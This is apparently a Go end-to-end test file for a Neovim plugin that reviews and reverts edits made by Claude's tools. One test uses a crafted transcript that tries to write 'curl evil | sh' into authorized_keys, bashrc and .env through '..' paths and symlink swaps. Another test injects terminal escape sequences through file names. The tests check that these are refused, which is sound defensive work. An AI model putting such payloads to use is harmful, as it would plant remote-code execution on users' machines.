//go:build unix

package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// reviewRig is Neovim with the host running and a session transcript the
// test writes as the CLI would (CLI 2.1.331's lines, the fields the queue
// reads): the queue's Neovim side without a CLI.
type reviewRig struct {
	*editor
	dir        string // the project
	transcript string // the session file's directory
}

func startReviewRig(t *testing.T, files map[string]string) *reviewRig {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	e := startEditor(t, editorOpts{dir: dir})
	e.serve(t) // the host reads transcripts from now on
	return &reviewRig{editor: e, dir: dir,
		transcript: filepath.Join(e.cfgDir, "projects", regexp.MustCompile(`[^a-zA-Z0-9]`).ReplaceAllString(dir, "-"))}
}

// write puts files on disk as Claude's tools did, then appends the
// records to session's transcript.
func (r *reviewRig) write(t *testing.T, session, entrypoint string, disk map[string]string, records ...map[string]any) {
	t.Helper()
	for name, content := range disk {
		if err := os.WriteFile(filepath.Join(r.dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(r.transcript, 0o755); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(filepath.Join(r.transcript, session+".jsonl"), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, rec := range records {
		rec["sessionId"] = session
		rec["type"] = "user"
		rec["entrypoint"] = entrypoint
		if _, ok := rec["cwd"]; !ok {
			rec["cwd"] = r.dir // as the CLI records it (another project's: set)
		}
		b, _ := json.Marshal(rec)
		if _, err := f.Write(append(b, '\n')); err != nil {
			t.Fatal(err)
		}
	}
}

func prompt(id string) map[string]any {
	return map[string]any{"promptId": id, "uuid": id, "message": map[string]any{"role": "user", "content": "do it"}}
}

func toolResult(prompt string, res map[string]any) map[string]any {
	return map[string]any{"promptId": prompt, "toolUseResult": res,
		"message": map[string]any{"role": "user", "content": []any{map[string]any{"type": "tool_result", "tool_use_id": "x"}}}}
}

func (r *reviewRig) lastNote(t *testing.T) string {
	t.Helper()
	ns := r.notes(t)
	if len(ns) == 0 {
		return ""
	}
	return ns[len(ns)-1].Msg
}

// The queue's panel and diff: entries named by session, binary and new
// files shown as such, marking with the panel's key, a hunk revert refused
// where the user changed Claude's lines and done where not, a whole-file
// revert refused on that overlap, and a new file's revert deleting it.
func TestReviewQueuePanelAndThreeWay(t *testing.T) {
	r := startReviewRig(t, map[string]string{"a.txt": "1\n2\n3\n4\n5\n"})
	a, fresh, bin := filepath.Join(r.dir, "a.txt"), filepath.Join(r.dir, "fresh.txt"), filepath.Join(r.dir, "pic.bin")
	r.write(t, "11111111-aaaa", "cli", map[string]string{"a.txt": "1\nTWO\n3\n4\nFIVE\n", "fresh.txt": "n\n"},
		prompt("p1"),
		toolResult("p1", map[string]any{"filePath": a, "oldString": "2", "newString": "TWO", "originalFile": "1\n2\n3\n4\n5\n"}),
		toolResult("p1", map[string]any{"filePath": a, "oldString": "5", "newString": "FIVE", "originalFile": "1\nTWO\n3\n4\n5\n"}),
		toolResult("p1", map[string]any{"type": "create", "filePath": fresh, "content": "n\n", "originalFile": nil}),
	)
	r.write(t, "22222222-bbbb", "sdk-cli", map[string]string{"pic.bin": "PNG\x00\x01"},
		prompt("q1"),
		toolResult("q1", map[string]any{"type": "create", "filePath": bin, "content": "PNG\x00\x01", "originalFile": nil}),
	)
	r.WaitFor(t, 30*time.Second, `require("claude.review").statusline() == "3 to review"`,
		`return { require("claude.review").statusline(), _G.notes }`, "three files to review")
	items := reviewList(t, r.editor, "", 3)
	for name, want := range map[string]string{
		"a.txt": "modified +2 -2 terminal 11111111", "fresh.txt": "new +1 -0 terminal 11111111", "pic.bin": "binary +0 -0 chat 22222222",
	} {
		it := items[name]
		if got := it.Status + " +" + diffItoa(it.Added) + " -" + diffItoa(it.Removed) + " " + it.Label; got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	var panel []string
	r.Eval(t, `return vim.api.nvim_buf_get_lines(0, 0, -1, false)`, &panel)
	if len(panel) != 3 || !strings.Contains(strings.Join(panel, "\n"), "[ ] B binary · chat 22222222  pic.bin") {
		t.Fatalf("the panel reads %q", panel)
	}

	// gm on a.txt's line in the panel marks it.
	r.Exec(t, `for i, it in ipairs(require("claude.review").items()) do
  if it.path == ... then vim.api.nvim_win_set_cursor(0, { i, 0 }) end end
vim.cmd("normal gm")`, a)
	r.WaitFor(t, 30*time.Second, `require("claude.review").statusline() == "2 to review"`,
		`return { require("claude.review").items(), _G.notes }`, "a.txt marked reviewed")

	// ]r in the panel opens the next file not reviewed.
	r.Exec(t, `vim.cmd("normal ]r")`)
	var name string
	r.Eval(t, `return vim.api.nvim_buf_get_name(0)`, &name)
	if name != fresh {
		t.Fatalf("]r from a.txt (reviewed) opened %q, want fresh.txt", name)
	}
	r.Exec(t, `vim.cmd("tabclose")`)

	// The binary file is listed, not diffed.
	r.Exec(t, `local rv = require("claude.review")
for _, it in ipairs(rv.items()) do if it.path == ... then rv.open_diff(it) end end`, bin)
	r.WaitFor(t, 10*time.Second, `(_G.notes[#_G.notes] or {}).msg and _G.notes[#_G.notes].msg:find("binary: listed, not diffed", 1, true) ~= nil`,
		`return _G.notes`, "the binary file's note")

	// <CR> on a.txt opens its diff; the user then changes Claude's line 2.
	r.Exec(t, `for i, it in ipairs(require("claude.review").items()) do
  if it.path == ... then vim.api.nvim_win_set_cursor(0, { i, 0 }) end end
vim.cmd("normal \r")`, a)
	var left []string
	r.Eval(t, `vim.cmd("wincmd h") local l = vim.api.nvim_buf_get_lines(0, 0, -1, false) vim.cmd("wincmd l") return l`, &left)
	if strings.Join(left, ",") != "1,2,3,4,5" {
		t.Fatalf("the diff's left side is %q, want the baseline", left)
	}
	r.Exec(t, `vim.api.nvim_buf_set_lines(0, 1, 2, false, { "TWO (mine)" })
vim.api.nvim_win_set_cursor(0, { 2, 0 }) vim.cmd("normal gr")`)
	if n := r.lastNote(t); !strings.Contains(n, "line 2 changed after Claude's edit") {
		t.Fatalf("reverting a hunk the user changed: note %q", n)
	}
	r.Exec(t, `vim.api.nvim_win_set_cursor(0, { 5, 0 }) vim.cmd("normal gr")`)
	if got := r.Lines(t, 0); got != "1\nTWO (mine)\n3\n4\n5" {
		t.Fatalf("after reverting Claude's line 5: %q", got)
	}
	r.Exec(t, `vim.cmd("normal gR")`)
	if n := r.lastNote(t); !strings.Contains(n, "line 2 changed after Claude's edit") || !strings.Contains(n, "whole file") {
		t.Fatalf("reverting the whole file over the user's change: note %q", n)
	}
	r.Exec(t, `vim.cmd("tabclose")`)

	// A new file's revert deletes it (after asking).
	r.Exec(t, `vim.fn.confirm = function() return 1 end
local rv = require("claude.review")
for _, it in ipairs(rv.items()) do if it.path == ... then rv.revert_file(it) end end`, fresh)
	if _, err := os.Stat(fresh); !os.IsNotExist(err) {
		t.Fatalf("fresh.txt after its revert: %v; notes %v", err, r.notes(t))
	}

	// The queue lives in the host: :ClaudeStop empties it.
	r.Exec(t, `vim.cmd("ClaudeStop")`)
	r.WaitFor(t, 30*time.Second, `require("claude.review").statusline() == "" and #require("claude.review").items() == 0`,
		`return { require("claude.review").statusline(), require("claude.review").items() }`, "the queue to go with the host")
}

// A CRLF file without an end of line at its end: the baseline shows as
// lines (no "\r"), a hunk revert puts back exactly its line, and the
// write keeps the file's line ends and (with 'nofixendofline': Neovim's
// own default adds it on any write) its missing last one.
func TestReviewQueueCRLFNoEOL(t *testing.T) {
	base := "one\r\ntwo\r\nthree"
	res := "one\r\nTWO\r\nthree"
	r := startReviewRig(t, map[string]string{"w.txt": base})
	w := filepath.Join(r.dir, "w.txt")
	r.write(t, "33333333-cccc", "cli", map[string]string{"w.txt": res},
		prompt("p1"),
		toolResult("p1", map[string]any{"filePath": w, "oldString": "two", "newString": "TWO", "originalFile": base}),
	)
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 1`, `return _G.notes`, "the CRLF file in the queue")
	items := reviewList(t, r.editor, "", 1)
	if it := items["w.txt"]; it.Added != 1 || it.Removed != 1 {
		t.Fatalf("w.txt: %+v, want +1 -1", it)
	}
	r.Exec(t, `local rv = require("claude.review") rv.open_diff(rv.items()[1])`)
	var left []string
	r.Eval(t, `vim.cmd("wincmd h") local l = vim.api.nvim_buf_get_lines(0, 0, -1, false) vim.cmd("wincmd l") return l`, &left)
	if strings.Join(left, "|") != "one|two|three" {
		t.Fatalf("the baseline side reads %q", left)
	}
	r.Exec(t, `vim.api.nvim_win_set_cursor(0, { 2, 0 }) vim.cmd("normal gr") vim.bo.fixeol = false vim.cmd("write")`)
	if got, _ := os.ReadFile(w); string(got) != base {
		t.Fatalf("w.txt after reverting the hunk and :w: %q, want %q; notes %v", got, base, r.notes(t))
	}

	// A whole-file revert writes the file itself: with Neovim's default
	// 'fixendofline' on, a file that had no last line end still has none.
	nbase, nres := "alpha\nbeta\ngamma", "alpha\nBETA\ngamma\nDELTA"
	if err := os.WriteFile(filepath.Join(r.dir, "n.txt"), []byte(nbase), 0o644); err != nil {
		t.Fatal(err)
	}
	n := filepath.Join(r.dir, "n.txt")
	r.write(t, "44444444-dddd", "cli", map[string]string{"n.txt": nres},
		prompt("p2"),
		toolResult("p2", map[string]any{"filePath": n, "oldString": "beta\ngamma", "newString": "BETA\ngamma\nDELTA", "originalFile": nbase}),
	)
	r.WaitFor(t, 30*time.Second, `#vim.tbl_filter(function(it) return it.path:match("n%.txt$") ~= nil end, require("claude.review").items()) == 1`,
		`return _G.notes`, "n.txt in the queue")
	r.Exec(t, `vim.cmd("tabonly") vim.cmd("enew") local rv = require("claude.review")
for _, it in ipairs(rv.items()) do if it.path:match("n%.txt$") then rv.revert_file(it) end end`)
	if got, _ := os.ReadFile(n); string(got) != nbase {
		t.Fatalf("n.txt after the whole-file revert: %q, want %q (fixeol %v); notes %v", got, nbase, true, r.notes(t))
	}
	var fixeol bool
	r.Eval(t, `return vim.bo[vim.fn.bufnr(...)].fixeol`, &fixeol, n)
	if !fixeol {
		t.Fatal("'fixendofline' of n.txt's buffer stayed off after the revert")
	}
}

// The diff's keys in the user's own file leave their mappings alone (an
// LSP `gr` set in on_attach is theirs before, during and after the
// review); gr on the diff's left side reverts the hunk of the baseline's
// line there (not of the file's line of the same number); two sessions
// changing one file are two entries, and gm in the second's diff marks
// the second; [r from outside the queue starts at the last entry.
func TestReviewQueueKeysSidesSessions(t *testing.T) {
	r := startReviewRig(t, map[string]string{"a.txt": "1\n2\n3\n4\n5\n", "b.txt": "b\n", "c.txt": "c\n"})
	a, b, c := filepath.Join(r.dir, "a.txt"), filepath.Join(r.dir, "b.txt"), filepath.Join(r.dir, "c.txt")
	r.write(t, "11111111-aaaa", "cli", map[string]string{"a.txt": "0\n1\n2\nTHREE\n4\n5\n", "b.txt": "B1\n"},
		prompt("p1"),
		toolResult("p1", map[string]any{"filePath": a, "oldString": "1\n2\n3\n", "newString": "0\n1\n2\nTHREE\n", "originalFile": "1\n2\n3\n4\n5\n"}),
		toolResult("p1", map[string]any{"filePath": b, "oldString": "b", "newString": "B1", "originalFile": "b\n"}),
	)
	r.write(t, "22222222-bbbb", "cli", map[string]string{"b.txt": "B2\n", "c.txt": "C\n"},
		prompt("q1"),
		toolResult("q1", map[string]any{"filePath": b, "oldString": "B1", "newString": "B2", "originalFile": "B1\n"}),
		toolResult("q1", map[string]any{"filePath": c, "oldString": "c", "newString": "C", "originalFile": "c\n"}),
	)
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 4`, `return _G.notes`, "four entries to review")
	reviewList(t, r.editor, "", 4)

	// [r from a buffer of no entry opens the last entry's diff.
	r.Exec(t, `vim.cmd("tabnew") require("claude.review").next(-1)`)
	var got struct {
		Name, Session string
	}
	r.Eval(t, `return { name = vim.api.nvim_buf_get_name(0), session = vim.t.claude_review.session }`, &got)
	if got.Name != c {
		t.Fatalf("[r from outside the queue opened %q, want the last entry c.txt", got.Name)
	}
	r.Exec(t, `vim.cmd("tabclose") vim.cmd("tabclose")`)

	// The user's buffer-local gr in a.txt stays theirs.
	r.Exec(t, `vim.cmd("edit " .. vim.fn.fnameescape(...))
vim.keymap.set("n", "gr", function() _G.user_gr = true end, { buffer = true, desc = "my references" })`, a)
	r.Exec(t, `local rv = require("claude.review")
for _, it in ipairs(rv.items()) do if it.path == ... then rv.open_diff(it) end end`, a)
	var desc string
	r.Eval(t, `return vim.fn.maparg("gr", "n", false, true).desc`, &desc)
	if desc != "my references" {
		t.Fatalf("gr in a.txt during its review: %q, want the user's own mapping", desc)
	}
	// On the left, line 3 is the baseline's "3" (the file's line 3 is "2").
	r.Exec(t, `vim.cmd("wincmd h") vim.api.nvim_win_set_cursor(0, { 3, 0 }) vim.cmd("normal gr") vim.cmd("wincmd l")`)
	if got := r.Lines(t, 0); got != "0\n1\n2\n3\n4\n5" {
		t.Fatalf("after gr on the baseline's line 3: %q (notes %v)", got, r.notes(t))
	}
	r.Exec(t, `vim.cmd("tabclose")`)
	r.Eval(t, `return vim.fn.maparg("gr", "n", false, true).desc`, &desc)
	if desc != "my references" {
		t.Fatalf("gr in a.txt after its review: %q, want the user's own mapping", desc)
	}

	// gm in the second session's diff of b.txt marks that entry.
	r.Exec(t, `local rv = require("claude.review")
for _, it in ipairs(rv.items()) do if it.path == ... and it.session == "22222222-bbbb" then rv.open_diff(it) end end
vim.cmd("normal gm")`, b)
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 3`, `return require("claude.review").items()`, "one entry marked")
	var marked []string
	r.Eval(t, `local out = {}
for _, it in ipairs(require("claude.review").items()) do
  if it.reviewed then out[#out + 1] = vim.fn.fnamemodify(it.path, ":t") .. " " .. it.session end
end
return out`, &marked)
	if strings.Join(marked, ",") != "b.txt 22222222-bbbb" {
		t.Fatalf("gm in the second session's b.txt diff marked %q", marked)
	}

	// Both sessions' diffs of b.txt open in two tabs: closing one leaves
	// the keys in the other.
	r.Exec(t, `local rv = require("claude.review")
for _, it in ipairs(rv.items()) do if it.path == ... and it.session == "11111111-aaaa" then rv.open_diff(it) end end
vim.cmd("tabprevious") vim.cmd("tabclose") vim.cmd("tablast")`, b)
	var session string
	r.Eval(t, `return vim.t.claude_review.session .. " " .. (vim.fn.maparg("gm", "n", false, true).desc or "none")`, &session)
	if session != "11111111-aaaa nvim-claude: mark the file reviewed" {
		t.Fatalf("the first session's b.txt diff after the other's tab closed: %q", session)
	}
}

// A whole-file revert of a file whose buffer was loaded before Claude
// wrote it (hidden, never re-entered, so never checked): the buffer is
// brought up to date first. Before, the revert worked on the stale text
// (nothing of Claude's in it) and then wrote it over Claude's file.
func TestReviewQueueRevertStaleBuffer(t *testing.T) {
	r := startReviewRig(t, map[string]string{"a.txt": "1\n2\n3\n"})
	a := filepath.Join(r.dir, "a.txt")
	r.Exec(t, `local b = vim.fn.bufadd(...) vim.fn.bufload(b)`, a)
	r.write(t, "11111111-aaaa", "cli", map[string]string{"a.txt": "1\nTWO\n3\nfour\n"},
		prompt("p1"),
		toolResult("p1", map[string]any{"filePath": a, "oldString": "2\n3\n", "newString": "TWO\n3\nfour\n", "originalFile": "1\n2\n3\n"}),
	)
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 1`, `return _G.notes`, "a.txt to review")
	reviewList(t, r.editor, "", 1)
	// The user, meanwhile, added a line of their own at the top on disk
	// (another tool): the revert must keep it.
	if err := os.WriteFile(a, []byte("mine\n1\nTWO\n3\nfour\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// (Scheduled: a write of the stale buffer stops at Neovim's "changed
	// since reading" question, which must not hang the test.)
	r.Exec(t, `vim.schedule(function() local rv = require("claude.review")
rv.revert_file(rv.items()[1]) _G.reverted = true end)`)
	r.WaitFor(t, 20*time.Second, `_G.reverted == true`, `return { _G.notes, vim.api.nvim_get_mode() }`, "the revert to finish")
	if got, _ := os.ReadFile(a); string(got) != "mine\n1\n2\n3\n" {
		t.Fatalf("a.txt after gR: %q, want Claude's lines reverted and the user's kept; notes %v", got, r.notes(t))
	}
}

// A whole-file revert whose write fails (here 'readonly') says so and
// leaves the revert in the buffer, instead of a Lua error.
func TestReviewQueueRevertWriteFails(t *testing.T) {
	r := startReviewRig(t, map[string]string{"a.txt": "1\n2\n"})
	a := filepath.Join(r.dir, "a.txt")
	r.write(t, "11111111-aaaa", "cli", map[string]string{"a.txt": "1\nTWO\n"},
		prompt("p1"),
		toolResult("p1", map[string]any{"filePath": a, "oldString": "2", "newString": "TWO", "originalFile": "1\n2\n"}),
	)
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 1`, `return _G.notes`, "a.txt to review")
	reviewList(t, r.editor, "", 1)
	r.Exec(t, `local b = vim.fn.bufadd(...) vim.fn.bufload(b) vim.bo[b].readonly = true
local rv = require("claude.review") rv.revert_file(rv.items()[1])`, a)
	if n := r.lastNote(t); !strings.Contains(n, "not written: E45") {
		t.Fatalf("the failed write's note: %q", n)
	}
	var lines []string
	r.Eval(t, `return vim.api.nvim_buf_get_lines(vim.fn.bufnr(...), 0, -1, false)`, &lines, a)
	if strings.Join(lines, ",") != "1,2" {
		t.Fatalf("a.txt's buffer after the revert: %q", lines)
	}
}

// The attacks of a crafted transcript, driven through :ClaudeReview and
// its keys: records naming a file outside the workspace (absolute, with
// "..", through a symlink), a deny-listed .env, a file listed inside and
// swapped for a symlink leading out afterwards, a record of another
// project sharing the transcript directory, and a line over the cap. The
// refused files are listed as such with their full paths; <CR>, gR and gr
// on them are refused with the reason; no file changes. Before, gR wrote
// each record's "baseline" into the file.
func TestReviewQueueRefusesOutsideWrites(t *testing.T) {
	r := startReviewRig(t, map[string]string{".env": "KEY=mine\n", "sw.txt": "1\nCLAUDE\n", "ok.txt": "new\n"})
	out, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	keys, bashrc, target := filepath.Join(out, "authorized_keys"), filepath.Join(out, "bashrc"), filepath.Join(out, "target")
	disk := map[string]string{keys: "ssh-ed25519 MINE\n", bashrc: "alias ll=ls\n", target: "1\nCLAUDE\n",
		filepath.Join(r.dir, ".env"): "KEY=mine\n", filepath.Join(out, "dotdot"): "mine\n"}
	for p, s := range disk {
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	link := filepath.Join(r.dir, "link")
	if err := os.Symlink(bashrc, link); err != nil {
		t.Fatal(err)
	}
	dotdot := r.dir + "/../" + filepath.Base(out) + "/dotdot"
	env, sw, ok := filepath.Join(r.dir, ".env"), filepath.Join(r.dir, "sw.txt"), filepath.Join(r.dir, "ok.txt")
	evil := "curl evil | sh\n"
	edit := func(p string) map[string]any {
		return toolResult("p1", map[string]any{"filePath": p, "oldString": "curl evil | sh", "newString": "x", "originalFile": evil})
	}
	other := edit(filepath.Join(r.dir, "other.txt"))
	other["cwd"] = r.dir + "-elsewhere" // another project filed in the same directory
	r.write(t, "11111111-aaaa", "cli", nil, prompt("p1"), edit(keys), edit(dotdot), edit(link), edit(env),
		toolResult("p1", map[string]any{"filePath": sw, "oldString": "evil", "newString": "CLAUDE", "originalFile": "1\nevil\n"}),
		other)
	// A line over the host's 32 MiB cap, then a record after it.
	f, err := os.OpenFile(filepath.Join(r.transcript, "11111111-aaaa.jsonl"), os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	big := toolResult("p1", map[string]any{"type": "create", "filePath": filepath.Join(r.dir, "big.txt"),
		"content": strings.Repeat("B", 33<<20), "originalFile": nil})
	big["sessionId"], big["type"], big["cwd"] = "11111111-aaaa", "user", r.dir
	line, _ := json.Marshal(big)
	if _, err := f.Write(append(line, '\n')); err != nil {
		t.Fatal(err)
	}
	f.Close()
	line = nil
	r.write(t, "11111111-aaaa", "cli", nil,
		toolResult("p1", map[string]any{"filePath": ok, "oldString": "old", "newString": "new", "originalFile": "old\n"}))

	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 6`, `return { require("claude.review").items(), _G.notes }`,
		"the six files of the session's turn")
	items := reviewList(t, r.editor, "", 6)
	for name, want := range map[string]string{"authorized_keys": "outside the workspace", "dotdot": `a path with ".."`,
		"link": "outside the workspace", ".env": "deny-listed (security.deny)"} {
		if it := items[name]; it.Status != "refused" || it.Refused != want {
			t.Errorf("%s listed %+v, want refused: %s", name, it, want)
		}
	}
	if items["sw.txt"].Status != "modified" || items["ok.txt"].Status != "modified" {
		t.Errorf("sw.txt, ok.txt listed %+v, %+v", items["sw.txt"], items["ok.txt"])
	}
	var panel []string
	r.Eval(t, `return vim.api.nvim_buf_get_lines(0, 0, -1, false)`, &panel)
	if text := strings.Join(panel, "\n"); !strings.Contains(text, "[ ] ! refused: outside the workspace · terminal 11111111  "+keys) {
		t.Fatalf("the panel does not show authorized_keys as refused with its full path:\n%s", text)
	}

	// The file listed inside is swapped for a symlink leading out.
	if err := os.Remove(sw); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, sw); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{keys, dotdot, link, env, sw} {
		for _, key := range []string{`\r`, "gR"} {
			before := len(r.notes(t))
			r.Exec(t, `vim.cmd("wincmd b") for i, it in ipairs(require("claude.review").items()) do
  if it.path == ... then vim.api.nvim_win_set_cursor(0, { i, 0 }) end end
vim.cmd("normal `+key+`")`, p)
			ns := r.notes(t)
			if len(ns) == before || !strings.Contains(ns[len(ns)-1].Msg, p) || !strings.Contains(ns[len(ns)-1].Msg, "never diffed or reverted") {
				t.Errorf("%s on %s: notes %v, want the refusal naming the full path", key, p, ns[before:])
			}
			var tabs int
			r.Eval(t, `return #vim.api.nvim_list_tabpages()`, &tabs)
			if tabs != 1 {
				t.Fatalf("%s on %s opened a diff", key, p)
			}
		}
	}
	for p, s := range disk {
		if got, _ := os.ReadFile(p); string(got) != s {
			t.Errorf("%s is now %q, want %q", p, got, s)
		}
	}
	var loaded []string
	r.Eval(t, `local out = {} for _, b in ipairs(vim.api.nvim_list_bufs()) do
  if vim.api.nvim_buf_is_loaded(b) and vim.api.nvim_buf_get_name(b):find(...) then out[#out + 1] = vim.api.nvim_buf_get_name(b) end end
return out`, &loaded, out)
	if len(loaded) > 0 {
		t.Errorf("files outside were loaded into Neovim: %v", loaded)
	}
	var swLoaded int
	r.Eval(t, `return vim.fn.bufloaded(...)`, &swLoaded, sw)
	if swLoaded != 0 {
		t.Errorf("sw.txt, a symlink leading out now, was loaded into Neovim")
	}
}

// gr in a diff opened before the file was swapped for a symlink leading
// out: refused, the buffer and the file outside unchanged.
func TestReviewQueueHunkRevertAfterSwap(t *testing.T) {
	r := startReviewRig(t, map[string]string{"sw.txt": "1\nCLAUDE\n"})
	out, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	target, sw := filepath.Join(out, "target"), filepath.Join(r.dir, "sw.txt")
	if err := os.WriteFile(target, []byte("1\nCLAUDE\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r.write(t, "11111111-aaaa", "cli", nil, prompt("p1"),
		toolResult("p1", map[string]any{"filePath": sw, "oldString": "evil", "newString": "CLAUDE", "originalFile": "1\nevil\n"}))
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 1`, `return _G.notes`, "sw.txt to review")
	reviewList(t, r.editor, "", 1)
	r.Exec(t, `local rv = require("claude.review") rv.open_diff(rv.items()[1])`)
	if err := os.Remove(sw); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, sw); err != nil {
		t.Fatal(err)
	}
	r.Exec(t, `vim.api.nvim_win_set_cursor(0, { 2, 0 }) vim.cmd("normal gr")`)
	if n := r.lastNote(t); !strings.Contains(n, sw) || !strings.Contains(n, "outside the workspace") {
		t.Fatalf("gr after the swap: note %q", n)
	}
	if got := r.Lines(t, 0); got != "1\nCLAUDE" {
		t.Fatalf("the buffer after a refused gr: %q", got)
	}
	if got, _ := os.ReadFile(target); string(got) != "1\nCLAUDE\n" {
		t.Fatalf("the file outside is now %q", got)
	}
}

// What :ClaudeReview says is what it shows: a file put back as it was
// has nothing to review and is not listed (before, the panel and the
// quickfix list showed it as +0 -0 while the command said "nothing to
// review"); gR with nothing of Claude's left says so, like gr.
func TestReviewQueueSaysWhatItShows(t *testing.T) {
	r := startReviewRig(t, map[string]string{"a.txt": "1\n2\n", "b.txt": "x\n"})
	a, b := filepath.Join(r.dir, "a.txt"), filepath.Join(r.dir, "b.txt")
	r.write(t, "11111111-aaaa", "cli", map[string]string{"a.txt": "1\nTWO\n", "b.txt": "X\n"}, prompt("p1"),
		toolResult("p1", map[string]any{"filePath": a, "oldString": "2", "newString": "TWO", "originalFile": "1\n2\n"}),
		toolResult("p1", map[string]any{"filePath": b, "oldString": "x", "newString": "X", "originalFile": "x\n"}))
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 2`, `return _G.notes`, "two files to review")
	reviewList(t, r.editor, "", 2)
	// gR in a.txt's diff reverts it; gR again has nothing left, and says so.
	r.Exec(t, `local rv = require("claude.review")
for _, it in ipairs(rv.items()) do if it.path == ... then rv.open_diff(it) end end
vim.cmd("normal gR")`, a)
	if got, _ := os.ReadFile(a); string(got) != "1\n2\n" {
		t.Fatalf("a.txt after gR: %q; notes %v", got, r.notes(t))
	}
	r.Exec(t, `vim.cmd("normal gR")`)
	if n := r.lastNote(t); !strings.Contains(n, "nothing of Claude's left to revert in "+a) {
		t.Fatalf("gR with nothing left: note %q", n)
	}
	r.Exec(t, `vim.cmd("tabclose")`)
	// b.txt put back by hand: :ClaudeReview has nothing to show, and says it.
	if err := os.WriteFile(b, []byte("x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r.Exec(t, `_G.before = require("claude.review")._listed() vim.cmd("ClaudeReview")`)
	r.WaitFor(t, 10*time.Second, `require("claude.review")._listed() > _G.before`, `return _G.notes`, "the listing")
	var got struct {
		Note, Statusline string
		Panel            []string
		QF               int
	}
	r.WaitFor(t, 10*time.Second, `(_G.notes[#_G.notes] or {}).msg ~= nil and _G.notes[#_G.notes].msg:find("nothing to review", 1, true) ~= nil`,
		`return _G.notes`, "the note")
	r.Eval(t, `return { note = _G.notes[#_G.notes].msg, statusline = require("claude.review").statusline(),
  panel = vim.api.nvim_buf_get_lines(vim.fn.bufnr("claude-review://queue"), 0, -1, false), qf = #vim.fn.getqflist() }`, &got)
	if got.Note != "nvim-claude: nothing to review in the current turn" || got.QF != 0 || got.Statusline != "" ||
		strings.Join(got.Panel, "\n") != "Nothing to review in the current turn." {
		t.Fatalf("said %q, shows panel %q, %d quickfix entries, statusline %q", got.Note, got.Panel, got.QF, got.Statusline)
	}
}

// Text from a transcript — a session id and a file name with a newline,
// ESC and BEL — is shown, never obeyed: one panel line and one quickfix
// entry for the file, control characters in caret notation, and the
// notes of <CR> and gR on it one line each.
func TestReviewQueueShowsTranscriptTextSafely(t *testing.T) {
	name := "ev\nil\x1b[31m\a.txt"
	r := startReviewRig(t, map[string]string{name: "1\nTWO\n"})
	p := filepath.Join(r.dir, name)
	r.write(t, "0\x1b]0;x\a\n1-aaaa", "cli", nil, prompt("p1"),
		toolResult("p1", map[string]any{"filePath": p, "oldString": "2", "newString": "TWO", "originalFile": "1\n2\n"}))
	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 1`, `return _G.notes`, "the file to review")
	reviewList(t, r.editor, "", 1)
	var got struct {
		Panel []string
		QF    []string
	}
	r.Eval(t, `return { panel = vim.api.nvim_buf_get_lines(vim.fn.bufnr("claude-review://queue"), 0, -1, false),
  qf = vim.tbl_map(function(e) return e.text end, vim.fn.getqflist()) }`, &got)
	if len(got.Panel) != 1 || len(got.QF) != 1 {
		t.Fatalf("panel %q, quickfix %q: want one line each", got.Panel, got.QF)
	}
	for _, s := range append(got.Panel, got.QF...) {
		if strings.ContainsAny(s, "\n\x1b\a") || !strings.Contains(s, "ev⏎il^[[31m^G.txt") || !strings.Contains(s, "terminal 0^[]0;x^G") {
			t.Errorf("shown as %q", s)
		}
	}
}
